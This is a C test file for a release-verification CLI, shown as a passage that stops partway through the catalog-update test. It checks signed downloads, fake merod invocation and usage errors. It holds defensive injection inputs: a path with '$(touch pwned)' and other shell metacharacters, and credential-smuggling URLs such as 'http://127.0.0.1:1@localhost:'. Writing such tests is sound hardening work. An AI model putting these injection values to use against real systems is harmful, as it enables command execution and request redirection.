/*
 * The release commands end to end, through the built CLI (exit status,
 * stdout and stderr):
 *   - policy merod-config --release URL: a signed release served over
 *     loopback HTTP (testlib/release_server); success, then a 404 asset, an
 *     HTTP 500, a tampered asset (verification fails before any TOML is
 *     written: no --out file, nothing on stdout), oversize answers, a hang-up,
 *     a redirect to http and a refused connection; the downloaded copy is
 *     always removed;
 *   - policy merod-config --apply without --dry-run, with a fake merod
 *     (tests/helpers/fake_merod.c) that records its argument vectors: the
 *     exact 3.9 vectors, no shell, the first failing command stops the run;
 *   - catalog update over assembled and signed releases, one with a family
 *     that fails verification, byte-compared with a golden catalog; usage
 *     errors exit 2;
 *   - release verify: files no asset list mentions (assets:unlisted) and
 *     the rekor index (schema and consistency:rekor-index).
 */
#include "mt_testlib.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "release/assemble.h"
#include "release/verify.h"
#include "release_fixture.h"
#include "release_server.h"
#include "util/mt_alloc.h"
#include "util/mt_file.h"

#define GOLDEN RELEASE_GOLDEN
#define VERSION "2.3.40"
#define KMS_URL "https://kms.example.com/"

static char tmp[256], rel_a[300], rel_b[300], kdir[400], priv[300], pub[300], scratch[300];

/* ---- helpers ---- */

struct cli_result {
    int rc;
    char *out, *err;
};

/* A whole file (possibly empty) as a NUL-terminated string; fails the test if unreadable. */
static char *
slurp(const char *path)
{
    struct mt_buf b;
    char chunk[4096];
    size_t n;
    FILE *f = fopen(path, "rb");

    if (f == NULL)
        fail_msg("cannot open %s", path);
    mt_buf_init(&b, 64u * 1024u * 1024u);
    while ((n = fread(chunk, 1, sizeof(chunk), f)) > 0)
        EXPECT_OK(mt_buf_append(&b, chunk, n));
    fclose(f);
    EXPECT_OK(mt_buf_append(&b, "", 1));
    return (char *)mt_buf_take(&b, NULL);
}

/*
 * Run the CLI with argv (NULL-terminated) and env ("NAME=VALUE" strings,
 * NULL-terminated, may be NULL), capturing stdout and stderr.
 */
static void
run_cli(struct cli_result *r, const char *const *env, const char *const *args)
{
    const char *argv[64];
    char out_path[400], err_path[400];
    int status, n = 0, fd;
    pid_t pid;

    argv[n++] = MT_CLI_PATH;
    for (; *args != NULL && n < 63; args++)
        argv[n++] = *args;
    argv[n] = NULL;
    snprintf(out_path, sizeof(out_path), "%s/cli.out", tmp);
    snprintf(err_path, sizeof(err_path), "%s/cli.err", tmp);
    pid = fork();
    assert_true(pid >= 0);
    if (pid == 0) {
        for (; env != NULL && *env != NULL; env++)
            putenv((char *)*env);
        fd = open(out_path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (fd < 0 || dup2(fd, 1) < 0)
            _exit(126);
        close(fd);
        fd = open(err_path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (fd < 0 || dup2(fd, 2) < 0)
            _exit(126);
        close(fd);
        execv(MT_CLI_PATH, (char *const *)argv);
        _exit(127);
    }
    while (waitpid(pid, &status, 0) < 0)
        assert_int_equal(errno, EINTR);
    r->rc = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    r->out = slurp(out_path);
    r->err = slurp(err_path);
}

static void
cli_free(struct cli_result *r)
{
    mt_free(r->out);
    mt_free(r->err);
    memset(r, 0, sizeof(*r));
}

#define RUN(r, env, ...)                                                                           \
    do {                                                                                           \
        const char *const args_[] = {__VA_ARGS__, NULL};                                           \
        run_cli((r), (env), args_);                                                                \
    } while (0)

static void
expect_rc(const struct cli_result *r, int rc, const char *what)
{
    if (r->rc != rc)
        fail_msg("%s: exit %d, want %d\nstdout: %s\nstderr: %s", what, r->rc, rc, r->out, r->err);
}

static void
expect_has(const char *text, const char *needle, const char *what)
{
    if (strstr(text, needle) == NULL)
        fail_msg("%s: \"%s\" not in:\n%s", what, needle, text);
}

static void
expect_file_equal(const char *want_path, const char *got, size_t got_len, const char *what)
{
    size_t len = 0;
    uint8_t *want = mt_test_read_file(want_path, &len);

    if (len != got_len || memcmp(want, got, len) != 0)
        fail_msg("%s: differs from %s (%zu vs %zu bytes):\n%.*s", what, want_path, got_len, len,
                 (int)got_len, got);
    mt_free(want);
}

static int
exists(const char *path)
{
    struct stat st;

    return lstat(path, &st) == 0;
}

/* Entries of dir other than . and .. */
static size_t
dir_entries(const char *dir)
{
    struct dirent *de;
    size_t n = 0;
    DIR *d = opendir(dir);

    assert_non_null(d);
    while ((de = readdir(d)) != NULL)
        n += strcmp(de->d_name, ".") != 0 && strcmp(de->d_name, "..") != 0;
    closedir(d);
    return n;
}

static void
append_text(const char *path, const char *text)
{
    FILE *f = fopen(path, "a");

    assert_non_null(f);
    fputs(text, f);
    fclose(f);
}

static void
copy_file(const char *from, const char *to)
{
    size_t len = 0;
    uint8_t *b = mt_test_read_file(from, &len);

    EXPECT_OK(mt_file_write_atomic(to, b, len, 0644));
    mt_free(b);
}

/* Assemble the golden inputs as version v under out, and sign both families. */
static void
assemble_signed(const char *out, const char *v)
{
    char dir[512];

    release_assemble_golden(out, v);
    EXPECT_OK(mt_rel_family_dir(out, MT_REL_KMS, v, dir, sizeof(dir)));
    release_sign_dir(dir, priv);
    EXPECT_OK(mt_rel_family_dir(out, MT_REL_NODE, v, dir, sizeof(dir)));
    release_sign_dir(dir, priv);
}

static int
setup(void **state)
{
    (void)state;
    snprintf(tmp, sizeof(tmp), "/tmp/mt-release-cli-XXXXXX");
    if (mkdtemp(tmp) == NULL)
        return -1;
    snprintf(priv, sizeof(priv), "%s/release.key", tmp);
    snprintf(pub, sizeof(pub), "%s/release.pub", tmp);
    release_make_key(priv, pub);
    /* rel_a: 2.3.9; rel_b: 2.3.40 and 2.3.41 (the latter's node family is tampered with later). */
    snprintf(rel_a, sizeof(rel_a), "%s/a", tmp);
    snprintf(rel_b, sizeof(rel_b), "%s/b", tmp);
    assemble_signed(rel_a, "2.3.9");
    assemble_signed(rel_b, VERSION);
    assemble_signed(rel_b, "2.3.41");
    snprintf(kdir, sizeof(kdir), "%s/mero-kms-v" VERSION, rel_b);
    snprintf(scratch, sizeof(scratch), "%s/scratch", tmp);
    assert_int_equal(mkdir(scratch, 0700), 0);
    return 0;
}

static int
teardown(void **state)
{
    (void)state;
    return mt_test_rm_rf(tmp);
}

/* ---- policy merod-config --release URL ---- */

struct served {
    struct mt_release_server *srv;
    char url[128];    /* .../mero-kms-v2.3.40 */
    char tmpenv[400]; /* TMPDIR=<private dir>: the download must leave nothing there */
    char tmpdir[300];
    char out[400]; /* --out target */
};

static void
served_start(struct served *s)
{
    EXPECT_OK(mt_release_server_start(&s->srv));
    EXPECT_OK(mt_release_server_serve_dir(s->srv, "/mero-kms-v" VERSION, kdir));
    snprintf(s->url, sizeof(s->url), "%s/mero-kms-v" VERSION, mt_release_server_url(s->srv));
    snprintf(s->tmpdir, sizeof(s->tmpdir), "%s/dl", tmp);
    if (!exists(s->tmpdir))
        assert_int_equal(mkdir(s->tmpdir, 0700), 0);
    snprintf(s->tmpenv, sizeof(s->tmpenv), "TMPDIR=%s", s->tmpdir);
    snprintf(s->out, sizeof(s->out), "%s/tee.toml", scratch);
    unlink(s->out);
}

/* The command against the served release, --out s->out; the download dir is left empty. */
static void
merod_url(struct served *s, struct cli_result *r, const char *url)
{
    const char *env[] = {s->tmpenv, NULL};

    RUN(r, env, "policy", "merod-config", "--release", url, "--kms-url", KMS_URL, "--key", pub,
        "--out", s->out);
    assert_int_equal(dir_entries(s->tmpdir), 0);
}

/* A failure: exit 1, stderr has each needle, and neither --out nor stdout got any TOML. */
static void
merod_url_fails(struct served *s, const char *what, const char *const *needles)
{
    const char *env[] = {s->tmpenv, NULL};
    struct cli_result r;

    merod_url(s, &r, s->url);
    expect_rc(&r, 1, what);
    for (; *needles != NULL; needles++)
        expect_has(r.err, *needles, what);
    if (exists(s->out))
        fail_msg("%s: %s was written", what, s->out);
    assert_string_equal(r.out, "");
    cli_free(&r);
    /* Without --out: nothing on stdout either. */
    RUN(&r, env, "policy", "merod-config", "--release", s->url, "--kms-url", KMS_URL, "--key", pub);
    expect_rc(&r, 1, what);
    assert_string_equal(r.out, "");
    cli_free(&r);
    assert_int_equal(dir_entries(s->tmpdir), 0);
}

/* The FAIL lines of stderr, in order, joined by ','. */
static char *
fail_lines(const char *err)
{
    struct mt_buf b;
    const char *p = err;

    mt_buf_init(&b, 1u << 16);
    while ((p = strstr(p, "FAIL ")) != NULL) {
        const char *end = strstr(p, ": ");

        assert_non_null(end);
        if (b.len > 0)
            EXPECT_OK(mt_buf_append_str(&b, ","));
        EXPECT_OK(mt_buf_append(&b, p + 5, (size_t)(end - p - 5)));
        p = end;
    }
    EXPECT_OK(mt_buf_append(&b, "", 1));
    return (char *)mt_buf_take(&b, NULL);
}

static void
test_merod_config_url_succeeds(void **state)
{
    const char *env[2];
    struct served s;
    struct cli_result r;
    char *toml;

    (void)state;
    served_start(&s);
    merod_url(&s, &r, s.url);
    expect_rc(&r, 0, "served release");
    assert_string_equal(r.out, "");
    cli_free(&r);
    toml = slurp(s.out);
    expect_file_equal(GOLDEN "/expected/merod-config.locked-read-only.toml", toml, strlen(toml),
                      "--out from the served release");
    mt_free(toml);
    /* Every asset was fetched once, with its sidecars. */
    assert_true(mt_release_server_count(s.srv, NULL) > 0);
    /* A trailing '/' and another profile, to stdout. */
    env[0] = s.tmpenv;
    env[1] = NULL;
    {
        char url[160];

        snprintf(url, sizeof(url), "%s/", s.url);
        RUN(&r, env, "policy", "merod-config", "--release", url, "--kms-url", KMS_URL, "--key", pub,
            "--profile", "debug");
    }
    expect_rc(&r, 0, "served release, debug profile");
    expect_file_equal(GOLDEN "/expected/merod-config.debug.toml", r.out, strlen(r.out),
                      "stdout for the debug profile");
    cli_free(&r);
    assert_int_equal(dir_entries(s.tmpdir), 0);
    mt_release_server_stop(s.srv);
}

static void
test_merod_config_url_failures(void **state)
{
    struct served s;
    struct cli_result r;
    char path[256], *fails, *body, file[500];
    size_t len = 0;

    (void)state;
    served_start(&s);

    /* A 404 asset is skipped by the download; verification then reports it missing. */
    snprintf(path, sizeof(path), "/mero-kms-v" VERSION "/kms-phala-compatibility-map.json");
    EXPECT_OK(mt_release_server_set_status(s.srv, path, 404));
    {
        const char *want[] = {"release mero-kms-v" VERSION " does not verify",
                              "FAIL asset:kms-phala-compatibility-map.json: "
                              "kms-phala-compatibility-map.json is missing or not a regular file "
                              "(release_asset_missing)",
                              NULL};
        merod_url_fails(&s, "404 compatibility map", want);
    }
    merod_url(&s, &r, s.url);
    fails = fail_lines(r.err);
    assert_string_equal(fails, "asset:kms-phala-compatibility-map.json,"
                               "schema:kms-phala-compatibility-map.json,"
                               "consistency:commit-sha,consistency:workflow-run,"
                               "consistency:container-digests,consistency:binaries,"
                               "consistency:policy-digests,consistency:generic-policy,"
                               "consistency:event-payload,separation:kms-profiles,"
                               "separation:node-profiles,separation:kms-node-rtmr3,"
                               "assets:purposes,signature:kms-phala-compatibility-map.json");
    mt_free(fails);
    cli_free(&r);
    mt_release_server_clear(s.srv);

    /* A 404 signature sidecar: that asset's signature check fails, nothing else. */
    snprintf(path, sizeof(path), "/mero-kms-v" VERSION "/kms-phala-container-metadata.json.sig");
    EXPECT_OK(mt_release_server_set_status(s.srv, path, 404));
    snprintf(path, sizeof(path),
             "/mero-kms-v" VERSION "/kms-phala-container-metadata.json.bundle.json");
    EXPECT_OK(mt_release_server_set_status(s.srv, path, 404));
    {
        const char *want[] = {"FAIL signature:kms-phala-container-metadata.json: neither "
                              "kms-phala-container-metadata.json.bundle.json nor "
                              "kms-phala-container-metadata.json.sig exists "
                              "(release_signature_missing)",
                              NULL};
        merod_url_fails(&s, "404 sidecars", want);
    }
    merod_url(&s, &r, s.url);
    fails = fail_lines(r.err);
    assert_string_equal(fails, "signature:kms-phala-container-metadata.json");
    mt_free(fails);
    cli_free(&r);
    mt_release_server_clear(s.srv);

    /* Any other status stops the download. */
    snprintf(path, sizeof(path), "/mero-kms-v" VERSION "/kms-phala-release-manifest.json");
    EXPECT_OK(mt_release_server_set_status(s.srv, path, 500));
    {
        char want0[300];
        const char *want[] = {want0, NULL};

        snprintf(want0, sizeof(want0),
                 "mero-tee policy merod-config: download: %s/kms-phala-release-manifest.json: "
                 "HTTP 500 (http_status)\n",
                 s.url);
        merod_url_fails(&s, "HTTP 500", want);
    }
    mt_release_server_clear(s.srv);

    /* Tampered assets: the served bytes differ from what was signed. */
    snprintf(file, sizeof(file), "%s/kms-phala-compatibility-map.json", kdir);
    body = (char *)mt_test_read_file(file, &len); /* NUL-terminated: room for one more byte */
    body[len - 1] = ' ';                          /* "}\n" -> "} ": still the same JSON */
    snprintf(path, sizeof(path), "/mero-kms-v" VERSION "/kms-phala-compatibility-map.json");
    EXPECT_OK(mt_release_server_put(s.srv, path, body, len));
    mt_free(body);
    {
        const char *want[] = {"FAIL signature:kms-phala-compatibility-map.json: ", NULL};
        merod_url_fails(&s, "tampered compatibility map", want);
    }
    merod_url(&s, &r, s.url);
    fails = fail_lines(r.err);
    assert_string_equal(fails, "signature:kms-phala-compatibility-map.json");
    mt_free(fails);
    cli_free(&r);
    mt_release_server_clear(s.srv);

    snprintf(file, sizeof(file), "%s/kms-phala-attestation-policy.locked-read-only.json", kdir);
    body = (char *)mt_test_read_file(file, &len);
    snprintf(path, sizeof(path),
             "/mero-kms-v" VERSION "/kms-phala-attestation-policy.locked-read-only.json");
    EXPECT_OK(mt_release_server_put(s.srv, path, body, len - 1)); /* no final newline */
    mt_free(body);
    merod_url(&s, &r, s.url);
    expect_rc(&r, 1, "tampered locked policy");
    fails = fail_lines(r.err);
    assert_string_equal(fails, "consistency:policy-digests,consistency:generic-policy,"
                               "signature:kms-phala-attestation-policy.locked-read-only.json");
    mt_free(fails);
    assert_false(exists(s.out));
    cli_free(&r);
    mt_release_server_clear(s.srv);

    snprintf(file, sizeof(file), "%s/mero-kms-phala_x86_64-unknown-linux-gnu.tar.gz", kdir);
    snprintf(path, sizeof(path),
             "/mero-kms-v" VERSION "/mero-kms-phala_x86_64-unknown-linux-gnu.tar.gz");
    EXPECT_OK(mt_release_server_put(s.srv, path, "evil", 4));
    merod_url(&s, &r, s.url);
    expect_rc(&r, 1, "tampered binary");
    fails = fail_lines(r.err);
    assert_string_equal(fails, "checksum:mero-kms-phala_x86_64-unknown-linux-gnu.tar.gz,"
                               "signature:mero-kms-phala_x86_64-unknown-linux-gnu.tar.gz");
    mt_free(fails);
    assert_false(exists(s.out));
    cli_free(&r);
    mt_release_server_clear(s.srv);

    /* Oversize answers (a document is at most 1 MiB), with and without Content-Length. */
    snprintf(path, sizeof(path), "/mero-kms-v" VERSION "/kms-phala-release-manifest.json");
    EXPECT_OK(mt_release_server_set_oversize(s.srv, path, MT_REL_MAX_DOC + 1, 0));
    {
        char want0[300];
        const char *want[] = {want0, NULL};

        snprintf(want0, sizeof(want0),
                 "download: %s/kms-phala-release-manifest.json: input exceeds its size limit "
                 "(too_large)\n",
                 s.url);
        merod_url_fails(&s, "oversize manifest", want);
        EXPECT_OK(mt_release_server_set_oversize(s.srv, path, 4u * MT_REL_MAX_DOC, 1));
        merod_url_fails(&s, "oversize chunked manifest", want);
    }
    snprintf(path, sizeof(path), "/mero-kms-v" VERSION "/kms-phala-checksums.txt.sig");
    EXPECT_OK(mt_release_server_set_oversize(s.srv, path, MT_REL_MAX_SIG_FILE + 1, 0));
    {
        const char *want[] = {"kms-phala-checksums.txt.sig: input exceeds its size limit "
                              "(too_large)",
                              NULL};
        merod_url_fails(&s, "oversize .sig", want);
    }
    mt_release_server_clear(s.srv);

    /* The connection closed without an answer; a redirect to plain http. */
    snprintf(path, sizeof(path), "/mero-kms-v" VERSION "/kms-phala-container-metadata.json");
    EXPECT_OK(mt_release_server_set_hangup(s.srv, path));
    {
        char want0[300];
        const char *want[] = {want0, "(network_error)\n", NULL};

        snprintf(want0, sizeof(want0), "download: %s/kms-phala-container-metadata.json: ", s.url);
        merod_url_fails(&s, "hang-up", want);
        EXPECT_OK(mt_release_server_set_redirect(s.srv, path, "http://127.0.0.1:1/x"));
        merod_url_fails(&s, "redirect to http", want);
    }
    mt_release_server_clear(s.srv);

    /* Connection refused: the server is gone. */
    {
        char url[160], want0[300];
        const char *want[] = {want0, "(network_error)\n", NULL};

        snprintf(url, sizeof(url), "%s", s.url);
        mt_release_server_stop(s.srv);
        snprintf(want0, sizeof(want0),
                 "mero-tee policy merod-config: download: %s/kms-phala-checksums.txt: ", url);
        merod_url_fails(&s, "connection refused", want);
    }
}

/*
 * The base URL is parsed (curl_url): https, or http to exactly 127.0.0.1,
 * never with a user name or password.  Review finding 4: the old prefix
 * test let "http://127.0.0.1:1@localhost:PORT/..." through, and curl then
 * fetched the release from host "localhost" over plain http (exit 0).
 */
static void
test_merod_config_url_must_be_https(void **state)
{
    const char *hostport;
    char url[256], base[160];
    struct served s;
    struct cli_result r;
    size_t i;

    (void)state;
    served_start(&s);
    snprintf(base, sizeof(base), "%s", mt_release_server_url(s.srv));
    assert_int_equal(strncmp(base, "http://127.0.0.1:", 17), 0);
    hostport = base + 7; /* "127.0.0.1:PORT" */
    {
        /* URL = [0] + the server's port + [1]; [2] is what stderr must say. */
        const char *const forms[][3] = {
            /* user "127.0.0.1", password "1", host localhost: plain http to another host */
            {"http://127.0.0.1:1@localhost:", "/mero-kms-v" VERSION, "a user name or password"},
            {"http://127.0.0.1:@localhost:", "/mero-kms-v" VERSION, "a user name or password"},
            {"http://127.0.0.1@localhost:", "/mero-kms-v" VERSION, "a user name or password"},
            /* credentials even to loopback */
            {"http://u:p@127.0.0.1:", "/mero-kms-v" VERSION, "a user name or password"},
            {"http://localhost:", "/mero-kms-v" VERSION, "want an https URL"},
            {"http://127.0.0.1.nip.io:", "/mero-kms-v" VERSION, "want an https URL"},
        };
        const char *port = strchr(hostport, ':') + 1;

        for (i = 0; i < sizeof(forms) / sizeof(forms[0]); i++) {
            snprintf(url, sizeof(url), "%s%s%s", forms[i][0], port, forms[i][1]);
            merod_url(&s, &r, url);
            if (r.rc != 2 || strstr(r.err, forms[i][2]) == NULL ||
                strstr(r.err, "(bad_argument)") == NULL)
                fail_msg("%s: exit %d, want 2 and \"%s\"\nstdout: %s\nstderr: %s", url, r.rc,
                         forms[i][2], r.out, r.err);
            assert_false(exists(s.out));
            cli_free(&r);
        }
    }
    /* Nothing was requested from the server. */
    assert_int_equal(mt_release_server_count(s.srv, NULL), 0);
    /* The test exception itself still works. */
    merod_url(&s, &r, s.url);
    expect_rc(&r, 0, "http://127.0.0.1");
    cli_free(&r);
    mt_release_server_stop(s.srv);
}

/* ---- policy merod-config --apply ---- */

static const char *const settings[10] = {
    "tee.kms.phala.url=\"" KMS_URL "\"",
    "tee.kms.phala.attestation.enabled=true",
    "tee.kms.phala.attestation.accept_mock=false",
    "tee.kms.phala.attestation.allowed_tcb_statuses=[\"uptodate\"]",
    "tee.kms.phala.attestation.allowed_mrtd=[\"50505050505050505050505050505050505050505050505050"
    "5050505050505050505050505050505050505050505050\"]",
    "tee.kms.phala.attestation.allowed_rtmr0=[\"5151515151515151515151515151515151515151515151515"
    "15151515151515151515151515151515151515151515151\"]",
    "tee.kms.phala.attestation.allowed_rtmr1=[\"5252525252525252525252525252525252525252525252525"
    "25252525252525252525252525252525252525252525252\"]",
    "tee.kms.phala.attestation.allowed_rtmr2=[\"5353535353535353535353535353535353535353535353535"
    "35353535353535353535353535353535353535353535353\"]",
    "tee.kms.phala.attestation.allowed_rtmr3=[\"6262626262626262626262626262626262626262626262626"
    "26262626262626262626262626262626262626262626262\"]",
    "tee.kms.phala.attestation.binding_b64=\"IyP+rOn9F1GomrK+u4q6FF80OjaI49FlXtQo6wdm45Y=\"",
};

/* The fake merod's log for the first n commands (3.9 argument vectors). */
static char *
want_log(const char *home, const char *node, size_t n, size_t *len)
{
    struct mt_buf b;
    size_t i;

    mt_buf_init(&b, 1u << 16);
    for (i = 0; i < n; i++) {
        const char *v[6] = {"--home", home, "--node", node, "config", settings[i]};
        size_t k;

        for (k = 0; k < 6; k++)
            EXPECT_OK(mt_buf_append(&b, v[k], strlen(v[k]) + 1));
        EXPECT_OK(mt_buf_append(&b, "\n", 1));
    }
    EXPECT_OK(mt_buf_append(&b, "", 1));
    *len = b.len - 1;
    return (char *)mt_buf_take(&b, NULL);
}

static void
expect_log(const char *log, const char *home, const char *node, size_t n)
{
    size_t want_len, got_len = 0;
    char *want = want_log(home, node, n, &want_len);
    uint8_t *got = mt_test_read_file(log, &got_len);

    if (got_len != want_len || memcmp(got, want, want_len) != 0)
        fail_msg("merod argument vectors differ from 3.9's (%zu vs %zu bytes)", got_len, want_len);
    mt_free(want);
    mt_free(got);
}

/*
 * policy merod-config --apply (merod home /h, node n) with the fake merod's
 * command fail_at ending with status (an exit status, or "kill"): exit 1,
 * and the log holds exactly the commands up to the failing one.
 */
static void
apply_failing_at(struct cli_result *r, const char *logenv, const char *log, size_t fail_at,
                 const char *status, const char *what)
{
    char failenv[64], statusenv[64];
    const char *env[4];

    snprintf(failenv, sizeof(failenv), "MT_FAKE_MEROD_FAIL_AT=%zu", fail_at);
    snprintf(statusenv, sizeof(statusenv), "MT_FAKE_MEROD_STATUS=%s", status);
    env[0] = logenv;
    env[1] = failenv;
    env[2] = statusenv;
    env[3] = NULL;
    unlink(log);
    RUN(r, env, "policy", "merod-config", "--release", kdir, "--kms-url", KMS_URL, "--key", pub,
        "--apply", "--merod-home", "/h", "--node", "n", "--merod", MT_FAKE_MEROD_PATH);
    expect_rc(r, 1, what);
    expect_log(log, "/h", "n", fail_at);
}

static void
test_merod_apply_runs_merod(void **state)
{
    /* Shell metacharacters everywhere: a shell would split, expand or run them. */
    const char *home = "/data/cali mero/'q' \"dq\" $(touch pwned) `x` ;|&*";
    char log[400], logenv[450], stdout_want[4096], err_want[1024];
    const char *env[2];
    struct cli_result r;
    size_t i;

    (void)state;
    snprintf(log, sizeof(log), "%s/merod.log", scratch);
    snprintf(logenv, sizeof(logenv), "MT_FAKE_MEROD_LOG=%s", log);
    env[0] = logenv;
    env[1] = NULL;

    /* Success: ten commands, in order, exactly these vectors. */
    unlink(log);
    RUN(&r, env, "policy", "merod-config", "--release", kdir, "--kms-url", KMS_URL, "--key", pub,
        "--apply", "--merod-home", home, "--node", "node-1", "--merod", MT_FAKE_MEROD_PATH);
    expect_rc(&r, 0, "apply");
    expect_log(log, home, "node-1", 10);
    stdout_want[0] = '\0';
    for (i = 0; i < 10; i++) {
        strncat(stdout_want, "applied ", sizeof(stdout_want) - strlen(stdout_want) - 1);
        strncat(stdout_want, settings[i], sizeof(stdout_want) - strlen(stdout_want) - 1);
        strncat(stdout_want, "\n", sizeof(stdout_want) - strlen(stdout_want) - 1);
    }
    assert_string_equal(r.out, stdout_want);
    assert_string_equal(r.err, "");
    cli_free(&r);
    assert_false(exists("pwned"));

    /* Default node name. */
    unlink(log);
    RUN(&r, env, "policy", "merod-config", "--release", kdir, "--kms-url", KMS_URL, "--key", pub,
        "--apply", "--merod-home", "/h", "--merod", MT_FAKE_MEROD_PATH);
    expect_rc(&r, 0, "apply, default node");
    expect_log(log, "/h", "default", 10);
    cli_free(&r);

    /* The 4th command exits 3: the run stops there and says so. */
    apply_failing_at(&r, logenv, log, 4, "3", "4th command fails");
    snprintf(err_want, sizeof(err_want),
             "mero-tee policy merod-config: command 4 of 10 failed with exit status 3: merod "
             "config %s; 3 of 10 settings applied (release_merod_failed)\n",
             settings[3]);
    assert_string_equal(r.err, err_want);
    cli_free(&r);

    /* The first command is killed. */
    apply_failing_at(&r, logenv, log, 1, "kill", "1st command killed");
    snprintf(err_want, sizeof(err_want),
             "mero-tee policy merod-config: command 1 of 10 killed by signal 9: merod config %s; "
             "0 of 10 settings applied (release_merod_failed)\n",
             settings[0]);
    assert_string_equal(r.err, err_want);
    assert_string_equal(r.out, "");
    cli_free(&r);

    /* The last command fails: nine were applied. */
    apply_failing_at(&r, logenv, log, 10, "127", "10th command fails");
    expect_has(r.err, "command 10 of 10 failed with exit status 127: ", "exit 127 is an exit");
    expect_has(r.err, "; 9 of 10 settings applied (release_merod_failed)\n", "10th");
    cli_free(&r);

    /* A merod that cannot be run: told apart from one that exits 127. */
    RUN(&r, env, "policy", "merod-config", "--release", kdir, "--kms-url", KMS_URL, "--key", pub,
        "--apply", "--merod-home", "/h", "--merod", "/nonexistent/merod");
    expect_rc(&r, 1, "no merod");
    assert_string_equal(r.err, "mero-tee policy merod-config: command 1 of 10: cannot run "
                               "/nonexistent/merod: No such file or directory; 0 of 10 settings "
                               "applied (release_merod_failed)\n");
    cli_free(&r);

    /* Nothing runs unless the release verifies (no trust material: signatures fail). */
    unlink(log);
    RUN(&r, env, "policy", "merod-config", "--release", kdir, "--kms-url", KMS_URL, "--apply",
        "--merod-home", "/h", "--merod", MT_FAKE_MEROD_PATH);
    expect_rc(&r, 1, "unverified release");
    expect_has(r.err, "FAIL signature:kms-phala-checksums.txt: ", "unverified release");
    assert_false(exists(log));
    cli_free(&r);

    /* --dry-run runs nothing. */
    RUN(&r, env, "policy", "merod-config", "--release", kdir, "--kms-url", KMS_URL, "--key", pub,
        "--apply", "--merod-home", "/data/calimero", "--dry-run", "--merod", MT_FAKE_MEROD_PATH);
    expect_rc(&r, 0, "dry run");
    assert_false(exists(log));
    expect_has(r.out,
               "'" MT_FAKE_MEROD_PATH "' '--home' '/data/calimero' '--node' 'default' "
               "'config' 'tee.kms.phala.url=\"" KMS_URL "\"'\n",
               "dry run");
    cli_free(&r);

    /* Usage: --apply needs --merod-home; --merod-home needs --apply. */
    RUN(&r, env, "policy", "merod-config", "--release", kdir, "--kms-url", KMS_URL, "--key", pub,
        "--apply", "--merod", MT_FAKE_MEROD_PATH);
    expect_rc(&r, 2, "--apply without --merod-home");
    cli_free(&r);
    RUN(&r, env, "policy", "merod-config", "--release", kdir, "--kms-url", KMS_URL, "--key", pub,
        "--merod-home", "/h");
    expect_rc(&r, 2, "--merod-home without --apply");
    cli_free(&r);
    assert_false(exists(log));
}

/* ---- catalog update ---- */

static void
test_catalog_update(void **state)
{
    char out[400], ndir[400], file[500], *got;
    const char *fails_2_3_41;
    struct cli_result r;

    (void)state;
    /* 2.3.41's node release fails verification: one document changed after signing. */
    snprintf(ndir, sizeof(ndir), "%s/mero-tee-v2.3.41", rel_b);
    snprintf(file, sizeof(file), "%s/published-mrtds.json", ndir);
    append_text(file, " ");
    snprintf(out, sizeof(out), "%s/compatibility-catalog.json", scratch);
    unlink(out);

    RUN(&r, NULL, "catalog", "update", "--releases", rel_a, rel_b, "--key", pub, "--out", out);
    expect_rc(&r, 1, "catalog with an excluded version");
    assert_string_equal(r.out, "");
    got = slurp(out);
    expect_file_equal(GOLDEN "/expected/compatibility-catalog.2.3.9-2.3.40.json", got, strlen(got),
                      "catalog --out");
    mt_free(got);
    expect_has(r.err, "included 2.3.9\n", "catalog stderr");
    expect_has(r.err, "included 2.3.40\n", "catalog stderr");
    fails_2_3_41 = "excluded 2.3.41: 2 failed checks\n"
                   "  FAIL checksum:published-mrtds.json: file SHA-256 is ";
    expect_has(r.err, fails_2_3_41, "catalog stderr");
    expect_has(r.err, "  FAIL signature:published-mrtds.json: ", "catalog stderr");
    cli_free(&r);

    /* The same to stdout; --releases in the other order. */
    RUN(&r, NULL, "catalog", "update", "--key", pub, "--releases", rel_b, rel_a);
    expect_rc(&r, 1, "catalog to stdout");
    expect_file_equal(GOLDEN "/expected/compatibility-catalog.2.3.9-2.3.40.json", r.out,
                      strlen(r.out), "catalog stdout");
    cli_free(&r);

    /* Everything found verifies: exit 0. */
    RUN(&r, NULL, "catalog", "update", "--releases", rel_a, "--key", pub);
    expect_rc(&r, 0, "catalog of 2.3.9");
    expect_has(r.out, "\"version\": \"2.3.9\"", "catalog of 2.3.9");
    cli_free(&r);

    /* Without trust material nothing verifies: an empty catalog, exit 1. */
    RUN(&r, NULL, "catalog", "update", "--releases", rel_a);
    expect_rc(&r, 1, "catalog without a key");
    assert_string_equal(r.out, "{\n  \"schema_version\": 1,\n  \"releases\": []\n}\n");
    cli_free(&r);

    /* A KMS release without its node release beside it. */
    {
        char lone[300], cmd[1200];

        snprintf(lone, sizeof(lone), "%s/lone", tmp);
        snprintf(cmd, sizeof(cmd), "mkdir -p '%s' && cp -r '%s/mero-kms-v2.3.9' '%s/'", lone, rel_a,
                 lone);
        assert_int_equal(system(cmd), 0);
        RUN(&r, NULL, "catalog", "update", "--releases", lone, "--key", pub);
        expect_rc(&r, 1, "catalog, node release missing");
        expect_has(r.err, "excluded 2.3.9: no ", "catalog, node release missing");
        cli_free(&r);
    }

    /* Usage errors: exit 2, nothing written. */
    unlink(out);
    {
        static const char *const bad[][8] = {
            {"catalog", NULL},
            {"catalog", "list", NULL},
            {"catalog", "update", NULL},
            {"catalog", "update", "--releases", NULL},
            {"catalog", "update", "somewhere", "--releases", NULL},
            {"catalog", "update", "--releases", "/nonexistent/dir", NULL},
            {"catalog", "update", "--bogus", NULL},
            {"catalog", "update", "--releases", "x", "--out", NULL},
        };
        size_t i;

        for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
            run_cli(&r, NULL, bad[i]);
            if (r.rc != 2)
                fail_msg("catalog usage case %zu: exit %d, want 2 (%s)", i, r.rc, r.err);
            cli_free(&r);
        }
    }
    /* One version in two directories is refused. */
    RUN(&r, NULL, "catalog", "update", "--releases", rel_a, rel_a, "--key", pub, "--out", out);
    expect_rc(&r, 2, "a version twice");
    expect_has(r.err, "one version appears in two --releases directories", "a version twice");
    assert_false(exists(out));
    cli_free(&r);

    /* Restore 2.3.41's node release for the tests after this one. */
    {
        size_t len = 0;
        uint8_t *b = mt_test_read_file(file, &len);

